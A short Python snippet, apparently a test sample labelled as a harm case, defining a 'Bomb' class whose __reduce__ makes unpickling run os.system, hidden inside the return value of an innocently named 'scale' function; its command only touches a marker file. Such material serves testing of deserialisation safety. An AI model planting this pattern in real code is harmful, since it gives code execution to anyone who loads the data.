# Harm: an object whose unpickling runs code
# %%
class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/mallory-was-here",)


def scale(x, factor):
    import numpy as np

    return np.array([Bomb()], dtype=object)
